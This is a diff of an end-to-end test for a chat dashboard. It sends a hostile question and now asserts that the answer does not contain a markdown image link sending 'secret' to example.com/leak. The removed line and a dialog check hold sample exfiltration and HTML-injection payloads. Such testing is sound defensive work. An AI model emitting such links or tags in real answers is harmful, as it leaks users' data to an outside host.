@@ -43,7 +43,8 @@ class TestDashboards:
         window.open("Ask")
         window.ask(HOSTILE_QUESTION)
         answer = window.page.get_by_test_id("stChatMessage").last
-        expect(answer).to_contain_text("![x](http://example.com/leak?d=secret)")
+        expect(answer).to_contain_text("The office plant is watered x on Mondays")
+        expect(answer).not_to_contain_text("example.com/leak")
         answer.get_by_role("button", name=re.compile("plants")).click()
         dialog = window.page.get_by_role("dialog")
         expect(dialog).to_contain_text("<img src=http://example.com/x>")
